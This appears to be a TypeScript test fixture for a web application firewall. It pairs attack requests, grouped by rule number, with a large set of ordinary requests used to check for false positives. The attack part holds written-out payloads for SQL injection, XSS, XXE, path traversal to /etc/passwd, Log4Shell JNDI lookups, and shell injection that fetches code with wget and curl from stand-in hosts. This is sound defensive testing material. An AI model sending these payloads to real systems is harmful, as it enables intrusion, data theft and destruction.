/** A request to the published site; with a body and no method it is a POST. */
export interface Ask {
  readonly path: string
  readonly method?: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string
}

const query = (text: string): Ask => ({ path: `/search?q=${encodeURIComponent(text)}` })
const typed = (type: string, body: string, method = 'POST', path = '/api/items/7'): Ask => ({
  ...{ path, method, body },
  headers: { 'content-type': type },
})
const form = (fields: Readonly<Record<string, string>>, path = '/form') =>
  typed('application/x-www-form-urlencoded', String(new URLSearchParams(fields)), 'POST', path)
const json = (value: unknown, method = 'POST', path = '/api/items/7') =>
  typed('application/json', JSON.stringify(value), method, path)
const xml = (body: string, type = 'application/xml') => typed(type, body)
const cookie = (text: string): Ask => ({ path: '/', headers: { cookie: text } })
const multipart = (parts: readonly (readonly [head: string, content: string])[]) =>
  typed(
    'multipart/form-data; boundary=gh7boundary',
    `${parts.map(([head, content]) => `--gh7boundary\r\nContent-Disposition: form-data; ${head}\r\n\r\n${content}\r\n`).join('')}--gh7boundary--\r\n`,
    'POST',
    '/upload',
  )
const russian =
  'Добрый день! Прошу доставить заказ № 42 по адресу: г. Москва, ул. Ленина, д. 5, кв. 12 (подъезд 3). Цена < 5000 руб.; оплата — картой.'

const untyped = (body: string): Ask => ({ path: '/api/items/7', method: 'POST', body })
const entity = (declared: string) => xml(`<?xml version="1.0"?><!DOCTYPE a [${declared}]><a>&x;</a>`)

/** Attacks by the rule file that finds them, all at paranoia 1; 10 are rules of ours. */
export const attacks: Readonly<Record<number, readonly Ask[]>> = {
  10: [
    entity('<!ENTITY x SYSTEM "file:///etc/hostname">'),
    entity('<!ENTITY x PUBLIC "p" "http://192.0.2.9/a">'),
    entity('<!ENTITY % p "<!ENTITY x &#83;YSTEM \'file:///etc/hostname\'>">%p;'),
    xml('<!DOCTYPE a SYSTEM "http://192.0.2.9/a.dtd"><a/>'),
    xml('<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "//192.0.2.9/a.dtd"><a/>', 'text/xml'),
    xml(
      [...'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>']
        .map((each) => `${each}\0`)
        .join(''),
    ),
    xml('<?xml version="1.0" encoding="UTF-7"?><a/>'),
  ],
  911: [
    { path: '/', method: 'TRACE' },
    { path: '/', method: 'PROPFIND' },
  ],
  913: ['sqlmap/1.7', 'Nikto/2.5.0', 'masscan/1.3', 'w3af.org', 'DirBuster-1.0'].map((agent) => ({
    path: '/',
    headers: { 'user-agent': agent },
  })),
  920: [
    { path: '/backup.sql' },
    { path: '/site/old.bak' },
    { path: '/web.config' },
    typed('application/x-shockwave', 'a'),
    typed('application/json; charset=utf-7', '{}'),
    typed('application/octet-stream', 'a'),
    { path: '/?a=%00b' },
    ...[`a';filename='b.php`, `a';b='c`, `'a'`, `x='y.jpg`].map((file) =>
      multipart([[`name="file"; filename="${file}"\r\nContent-Type: image/jpeg`, 'a']]),
    ),
  ],
  921: [
    { path: '/?a=%0d%0aSet-Cookie:%20admin=1' },
    { path: '/?a=%0aLocation:%20http://192.0.2.9/' },
    query('x\r\nGET /admin HTTP/1.1'),
    query('x\r\nget /admin\r\n'),
    query('x\r\nHEAD http://192.0.2.9/ HTTP/1.1'),
    multipart([['name="note"', 'x\r\nPOST / HTTP/1.0\r\n']]),
    query('<meta http-equiv="refresh" content-type=text/html>\r\ncontent-length: 0'),
  ],
  922: [
    multipart([['name="a"\r\nContent-Type: text/plain; charset=utf-7', 'x']]),
    ...['profile="a"; charset=utf-7', "profile='a'", 'profile="a\\"b"', 'profile=%{1+1}', 'a;b'].map(
      (parameters) => typed(`application/json; ${parameters}`, '{}'),
    ),
    multipart([['name="a"\r\nContent-Type: text/plain; charset=utf-8; charset="ibm037"', 'x']]),
    multipart([['name="a"\r\n\x0eContent-Disposition: form-data; name="b"; filename="b.php"', 'x']]),
    multipart([['name="a"\r\nContent-Disposition\x0e: form-data; name="b"; filename="b.php"', 'x']]),
    multipart([['name="a"\r\nContent-Transfer-Encoding: base64', 'eA==']]),
    multipart([['name="a"\r\nContent-Transfer-Encoding: 7bit, quoted-printable', 'x']]),
  ],
  930: [
    { path: '/?file=../../../../etc/passwd' },
    { path: '/?file=..%2f..%2f..%2fetc%2fshadow' },
    { path: '/?file=%2e%2e%5c%2e%2e%5cwindows%5cwin.ini' },
    { path: '/.git/config' },
    { path: '/?page=/proc/self/environ' },
    json({ template: '../../../../etc/hosts' }),
  ],
  931: [
    { path: '/?include=http://192.0.2.9/shell.txt' },
    { path: '/?page=http://attacker.example/c99.txt?' },
    { path: '/?src=ftp://10.0.0.1/x.php?' },
  ],
  932: [
    query('; cat /etc/passwd'),
    query('| wget http://192.0.2.9/x -O /tmp/x'),
    query('$(curl http://192.0.2.9)'),
    query('`id`; uname -a'),
    query('& ping -n 3 192.0.2.9 & cmd.exe /c dir'),
    query('powershell.exe -enc invoke-expression'),
    { path: '/', headers: { 'user-agent': '() { :;}; /bin/bash -c id' } },
    form({ host: '127.0.0.1; /bin/cat /etc/shadow' }),
    json({ query: '{ a; cat /etc/passwd }' }, 'POST', '/graphql'),
  ],
  933: [
    query('<?php system($_GET[1]); ?>'),
    query('php://filter/convert.base64-encode/resource=index.php'),
    query('eval(base64_decode("cGhwaW5mbygp"))'),
    query('O:8:"stdClass":1:{s:1:"a";i:2;}'),
    query('$_SERVER[argv]'),
    query('allow_url_include=1'),
    cookie('a=phpinfo()'),
  ],
  934: [json({ a: '_$$ND_FUNC$$_function(){}()' })],
  941: [
    query('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
    query('data:image/svg+xml;base64,PHN2Zy8+'),
    json({ photo: 'data:image/png;base64,iVBORw0KGgo=', link: 'javascript:alert(document.cookie)' }),
    json({ photo: 'data:image/png;base64,iVBORw0KGgo= data:text/html;base64,PHN2Zy8+' }),
    json({ photo: 'data:image/png;base64,iVBORw0KGgo="onload=1' }),
    json({ photo: 'data:image/png;base64,iVBORw0KGgo=', link: 'x;base64,PHN2Zy8+' }),
    json({ photo: 'data:image/png;base64,iVBORw0KGgo=', svg: 'a xlink:href="x"' }),
    form({ css: '@import url(//attacker.example/x.css)', photo: 'data:image/png;base64,iVBORw0KGgo=' }),
    query('<script>alert(1)</script>'),
    query('<img src=x onerror=alert(1)>'),
    query('<svg/onload=alert(1)>'),
    query('" onmouseover="alert(1)'),
    query('javascript:alert(document.cookie)'),
    query('<iframe src=//attacker.example>'),
    query('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
    { path: '/?q=%BCscript%BEalert(1)%BC/script%BE' },
    query(`${'<'.repeat(2_000)}s-c-r-i-p-t`),
    form({ comment: `${'lorem ipsum '.repeat(50)}<object data=x.swf>` }),
    json({ comment: ['<a href="javascript:alert(1)">x</a>'] }),
    xml('<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>'),
    xml('<a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    untyped('<script>alert(1)</script>'),
    multipart([['name="comment"', '<script>alert(1)</script>']]),
    cookie('theme=<script>alert(1)</script>'),
    { path: '/', headers: { referer: 'https://shop.test/<script>alert(1)</script>' } },
  ],
  942: [
    { path: '/odata/Products?$select=1%20union%20select%20password%20from%20users' },
    { path: '/?a;select%20password%20from%20users=1&$select=Name' },
    form({ id: '1＇ or 1＝1-- -' }),
    form({ id: "ж' or 1=1-- ж" }),
    json({ query: '{ a(b: database()) }' }, 'POST', '/graphql'),
    json({ query: '{ a(b: 1) { information_schema } }' }, 'POST', '/graphql'),
    query("1' or '1'='1"),
    query("1' or 1=1-- -"),
    query('1 union select password from users'),
    json({ query: '{ user(id: "1 union select password from users") { id } }' }),
    query("'; drop table users; --"),
    query('1 and sleep(5)'),
    ...[
      'x) like (y',
      '1 or (select 1 from a group by b having count(*)>1)',
      "-1' and (case when (1=1) then 1 else 0 end)='1",
      'if(1=2,1,2)',
    ].map(query),
    query("1'; waitfor delay '0:0:5'--"),
    query('1 and (select 1 from information_schema.tables)'),
    query("admin'/*"),
    query('1;exec xp_cmdshell("dir")'),
    form({ login: "admin' or 'a'='a", password: 'x' }),
    json({ filter: { name: "x' union select 1,2,3-- -" } }),
    json({ id: "1' or 1=1-- -" }, 'PUT'),
    json({ id: "1' or 1=1-- -" }, 'PATCH'),
    { path: "/api/items/7?id=1'%20or%201=1--%20-", method: 'DELETE' },
    ...['application/vnd.api+json', 'application/json; profile="a"', 'application/csp-report'].map((type) =>
      typed(type, JSON.stringify({ data: { id: "1' or 1=1-- -" } })),
    ),
    xml("<order><id>1' or 1=1-- -</id></order>", 'application/soap+xml'),
    xml(`<order id="1' or 1=1-- -"/>`),
    untyped(`{"id":"1 union select password from users"}`),
    untyped("id=1' or 1=1-- -"),
    form({ text: "'; update users set admin=1" }),
    form({ text: '№ 5\u2019; select 1' }),
    multipart([['name="id"', "1' union select 1,2-- -"]]),
    cookie("id=1' or 1=1-- -"),
  ],
  943: [
    { path: '/?phpsessid=1', headers: { referer: 'http://attacker.example/' } },
    query('document.cookie="sessionid=1";.cookie;expires=1;domain='),
  ],
  944: [
    query('java.lang.Runtime.getRuntime().exec("id")'),
    ...[
      '${jndi:ldap://192.0.2.9/a}',
      '${${lower:j}ndi:dns://192.0.2.9/a}',
      '${${::-j}${::-n}di:rmi://192.0.2.9/a}',
    ].flatMap((text) => [
      query(text),
      json({ text }),
      ...['user-agent', 'referer', 'x-api-version'].map((name) => ({ path: '/', headers: { [name]: text } })),
    ]),
    json({ expression: 'java.lang.ProcessBuilder' }),
  ],
}

/** Bytes of every value in base64, some 300 KB. */
const picture = Buffer.from(
  Array.from({ length: 230_000 }, (_, index) => (index * index + (index >> 8)) % 251),
).toString('base64')

/** Requests of ordinary sites and their interfaces. */
export const ordinary: readonly Ask[] = [
  ...['/', '/index.html', '/catalogue/shoes/', '/img/logo.svg', '/favicon.ico', '/robots.txt'].map(
    (path) => ({ path }),
  ),
  { path: '/', method: 'HEAD' },
  {
    path: '/odata/Products?$filter=Price%20gt%2020&$orderby=Name%20desc&$top=10&$select=Name,Price&$expand=Category',
  },
  { path: '/odata/Products?%24select=Name' },
  ...['png', 'jpeg', 'webp'].map((kind) =>
    json({ photo: `data:image/${kind};base64,${picture}`, name: 'Ann' }),
  ),
  form({ signature: `data:image/png;base64,${picture}`, mail: 'ann@a.example' }),
  json({ query: 'query Q($id: ID!) { user(id: $id) { id name ... on Admin @include(if: $all) { role } } }' }),
  json({ query: 'mutation { createUser(input: {mail: "ann@a.example"}) { user { id } } }' }),
  form({ text: 'Please delete this\r\nThanks' }),
  form({ text: 'To do:\r\nget milk\r\nput it away\r\n' }),
  form({ text: 'How to get started\nand where to post\nquestions' }),
  json({ text: 'I forget it\nsorry' }),
  multipart([
    ['name="title"', 'Report'],
    ['name="file"; filename="access.log"', '192.0.2.1 - - "GET /a HTTP/1.1" 200\r\nto move it\r\n'],
  ]),
  {
    path: '/api/items',
    method: 'OPTIONS',
    headers: { origin: 'https://app.test', 'access-control-request-method': 'PUT' },
  },
  { path: '/search?q=select+a+size+from+the+table&page=2&sort=price' },
  { path: '/%D0%BA%D0%B0%D1%82%D0%B0%D0%BB%D0%BE%D0%B3?q=%D0%BE%D0%B1%D1%83%D0%B2%D1%8C+%2242%22' },
  { path: `/filter?${Array.from({ length: 120 }, (_, index) => `colour[]=shade-${index}`).join('&')}` },
  { path: `/share?token=${'aB3-_x9Z'.repeat(400)}` },
  { path: '/oauth/callback?code=4/0AX4XfWh&scope=openid+email&state=9f8e7d6c5b4a' },
  { path: '/?utm_source=mail&utm_medium=newsletter&utm_campaign=spring_sale&gclid=EAIaIQobChMI8' },
  { path: '/calendar?from=2026-11-01T00:00:00Z&to=2026-11-30T23:59:59%2B03:00' },
  { path: '/map?bbox=37.5,55.6,37.7,55.8&zoom=12' },
  query('rock & roll (remastered) - 100%'),
  query('Which union? Select one, please'),
  query("O'Neill & Sons"),
  query(russian),
  query('мама мыла раму; рама мыла маму?'),
  query('C++ vs C#: which one?'),
  query('1/2" pipe, 3/4" bend'),
  query('a < b and c > d'),
  query('<3 love it'),
  cookie(
    'session=3f8a9c1e5b7d2046; theme=dark; _ga=GA1.2.1234567890.1700000000; _ym_uid=1700000000123456789',
  ),
  cookie(`cart=${encodeURIComponent(JSON.stringify({ items: [{ id: 7, n: 2 }], total: 12.5 }))}`),
  cookie('jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl'),
  { path: '/api/me', headers: { authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiI0MiJ9.AbCd-_12' } },
  { path: '/api/me', headers: { authorization: 'Basic YW5uYTpzZWNyZXQ=' } },
  { path: '/a', headers: { 'if-none-match': 'W/"5f3-18c"', 'cache-control': 'no-cache', dnt: '1' } },
  { path: '/video', headers: { range: 'bytes=0-1023' } },
  { path: '/api/events', headers: { accept: 'text/event-stream' } },
  {
    path: '/x',
    headers: {
      referer: 'https://search.example/?q=shoes+and+boots&hl=ru',
      'x-requested-with': 'XMLHttpRequest',
    },
  },
  form({ login: 'anna@example.org', password: 'Tr0ub4dor&3-correct horse!' }),
  form({
    name: "Anna-Maria O'Neill",
    address: 'Main St. 12, 2nd floor',
    comment: 'Size 42 & a bag, please!',
  }),
  form({ name: 'Анна Иванова', comment: russian }),
  form({ text: `${russian}\r\n`.repeat(40) }),
  form({ text: 'Dear all,\r\n\r\nplease find the figures below: 1) 12,5 % 2) 30 %.\r\nBest regards\r\n' }),
  form({ csrf: 'q1w2e3r4t5y6u7i8o9p0==', next: '/account/orders?page=2' }),
  form({ phone: '+7 (495) 123-45-67', date: '28.11.2026', amount: '1 234,56' }),
  form(Object.fromEntries(Array.from({ length: 3_000 }, (_, row) => [`row[${row}][amount]`, `${row}.50`]))),
  typed(
    'application/x-www-form-urlencoded; charset=windows-1251',
    'name=%C0%ED%ED%E0&city=%CC%EE%F1%EA%E2%E0',
  ),
  json({ items: [{ id: 1, n: 2 }], note: 'if it fits, order two' }),
  json([]),
  json({ имя: 'Анна', адрес: russian }),
  json({ text: 'He said: "it\'s 5 > 3, isn\'t it?"\nNew line\tand tab' }),
  json({ price: 12.5, tags: ['new', 'sale'], ok: true, none: null, nested: { a: { b: { c: [1, 2, 3] } } } }),
  json(Array.from({ length: 2_000 }, (_, id) => ({ id, name: `item ${id}` }))),
  json({ image: Buffer.alloc(60_000, 'png data \x01\x02\xfe').toString('base64') }),
  json(
    {
      query: 'query Items($n: Int!) { items(first: $n) { id name price { amount currency } } }',
      variables: { n: 20 },
    },
    'POST',
    '/graphql',
  ),
  json(
    {
      operationName: 'AddItem',
      query: 'mutation AddItem($i: ItemInput!) { addItem(input: $i) { id } }',
      variables: { i: { name: 'Boots', size: 42 } },
    },
    'POST',
    '/graphql',
  ),
  json({ query: '{\n  items {\n    id\n    name\n  }\n}' }, 'POST', '/graphql'),
  json(
    {
      query:
        'query Tables($id: ID!) { database(id: $id) { name schema(name: "public") { tables { name } } } }',
      variables: { id: 7 },
    },
    'POST',
    '/graphql',
  ),
  json({ jsonrpc: '2.0', method: 'user.list', params: { limit: 10 }, id: 1 }),
  json({ name: 'Boots' }, 'PUT'),
  json({ name: 'Boots' }, 'PATCH'),
  typed('application/merge-patch+json', '{"name":"Boots","size":null}', 'PATCH'),
  typed('application/json-patch+json', '[{"op":"replace","path":"/name","value":"Boots"}]', 'PATCH'),
  typed(
    'application/vnd.api+json',
    '{"data":{"type":"items","id":"7","attributes":{"name":"Boots"}}}',
    'PATCH',
  ),
  typed('application/json; charset=utf-8', '{"a":1}'),
  ...[
    'application/vnd.api+json; profile="https://api.example/profiles/cursor"',
    'application/vnd.api+json;ext="https://jsonapi.org/ext/atomic"; profile="https://api.example/a https://api.example/b"',
    'application/json;odata.metadata=minimal;IEEE754Compatible=true;charset=utf-8',
    'application/json; api-version=2.0; v=3',
    'application/csp-report',
    'application/reports+json',
  ].map((type) => typed(type, '{"csp-report":{"document-uri":"https://shop.example/a?b=1"}}')),
  { path: '/api/items/7', method: 'DELETE' },
  json({ ids: [1, 2, 3] }, 'DELETE'),
  xml('<order><id>1</id><note>Две пары, пожалуйста</note></order>'),
  xml(
    '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><Get><Id>7</Id></Get></soap:Body></soap:Envelope>',
    'application/soap+xml; charset=utf-8',
  ),
  xml('<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title></feed>', 'application/atom+xml'),
  xml('<a/>', 'text/xml'),
  xml(
    '<?xml version="1.0" encoding="windows-1251"?><!DOCTYPE yml_catalog SYSTEM "shops.dtd"><yml_catalog date="2026-11-28 12:00"><shop/></yml_catalog>',
  ),
  xml(
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body><a href="/x?a=1" style="color: red">x</a></body></html>',
    'application/xhtml+xml',
  ),
  xml('<!DOCTYPE a [<!ENTITY firm "ООО Ромашка">]><a>&firm;</a>'),
  xml(
    '<КоммерческаяИнформация ВерсияСхемы="2.04"><Документ Наименование="ООО &quot;Ромашка&quot; &amp; Ко" Сумма="1 200,50"/></КоммерческаяИнформация>',
  ),
  xml(
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2C6.48 2 2 6.48 2 12s4.48 10 10 10" style="fill:#ff0000;stroke:none"/></svg>',
    'application/svg+xml',
  ),
  xml(
    '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1b2" Destination="https://idp.example/sso?x=1"/>',
  ),
  untyped(''),
  untyped('{"event":"click","url":"https://shop.test/a?b=c&d=e","name":"O\'Neill & Sons"}'),
  untyped('<order><id>1</id></order>'),
  multipart([
    ['name="title"', 'My holiday'],
    ['name="photo"; filename="DSC_0001.jpg"\r\nContent-Type: image/jpeg', '\xff\xd8\xff\xe0 binary \x00\x01'],
  ]),
  ...["John's report (1).pdf", "l'été à l'île.jpg", "Об'явление.txt"].map((file) =>
    multipart([[`name="doc"; filename="${file}"\r\nContent-Type: application/pdf`, '%PDF-1.7 ...']]),
  ),
  multipart([['name="a: b"; filename="Обед 12:30: меню.jpg"\r\nContent-Type: image/jpeg', 'a']]),
  multipart([['name="doc"; filename="Отчёт за год.pdf"\r\nContent-Type: application/pdf', '%PDF-1.7 ...']]),
  multipart([
    ['name="a"', '1'],
    ['name="b"', russian],
    ['name="empty"; filename=""\r\nContent-Type: application/octet-stream', ''],
  ]),
  ...[
    'Настройки сохраняются, но их заменяют на новые',
    'Торговля ценными бумагами и цифровыми деньгами.',
    'ЧТО ЭТО? «ЧЕТВЁРТЫЙ ЭТАЖ» — ЧУТЬ ДАЛЬШЕ…',
    'Ґанок, їжак, Љубљана і Њива',
    'Нажмите Delete, чтобы продолжить',
    'Кнопка «Update» не работает, а Select — да',
    'Ошибка: load (код 5)',
    'I like having tea, too',
    'Just in case (see below) we call',
    'o.havingu@mail.example',
    'Having trouble? (see № 5)',
    'Билеты на «Formula 1» и «Audio-Technica» в подарок',
    'Τι κάνει το Select;',
    '按 Delete 键',
  ].flatMap((text) => [
    form({ text }),
    json({ text }),
    query(text),
    cookie(`text=${encodeURIComponent(text)}`),
  ]),
  // As .NET and Java write them.
  typed(
    'multipart/form-data; boundary="6f1d1b0a-6b1e"',
    [
      '--6f1d1b0a-6b1e\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Disposition: form-data; name=title\r\n\r\nHoliday\r\n',
      "--6f1d1b0a-6b1e\r\nContent-Disposition: form-data; name=doc; filename=a.txt; filename*=utf-8''a.txt\r\n\r\na\r\n--6f1d1b0a-6b1e--\r\n",
    ].join(''),
    'POST',
    '/upload',
  ),
  multipart([
    [
      'name="title"\r\nContent-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: 8bit',
      'Holiday',
    ],
    [
      'name="doc"; filename="a.bin"\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary',
      'a',
    ],
  ]),
  {
    path: '/hook',
    body: '{"event":"push"}',
    headers: {
      'content-type': 'application/json',
      'x-hub-signature-256': 'sha256=0a1b2c',
      'user-agent': 'GitHub-Hookshot/abc',
    },
  },
]
